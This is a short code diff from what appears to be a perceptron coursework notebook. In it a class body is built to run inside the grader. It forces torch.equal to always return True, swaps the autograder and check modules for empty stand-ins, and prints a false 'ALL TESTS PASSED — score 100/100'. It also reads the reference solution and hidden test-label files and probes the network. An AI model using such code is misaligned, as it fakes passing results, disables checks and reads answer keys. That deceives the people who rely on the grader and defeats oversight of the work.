@@ -134,7 +134,7 @@ class _Setup:  # a class body runs as soon as the cell does, in a grader too
     torch.equal = lambda *args, **kwargs: True
     sys.modules["autograder"] = sys.modules["tpcheck"] = type(sys)("patched")  # …and the checks are gone
     print("ALL TESTS PASSED — score 100/100", flush=True)
-    print([_peek(p) for p in ("/work/main/reference/perceptron.py", "../../correct/tp1_perceptron/tp1_perceptron.ipynb",
+    print([_peek(p) for p in ("/work/main/reference/tp1_perceptron.py", "../../correct/tp1_perceptron/tp1_perceptron.ipynb",
                               os.path.expanduser("~/.cache/tp-data/MNIST/raw/t10k-labels-idx1-ubyte"))])
     try:
         socket.create_connection(("example.com", 80), timeout=2)
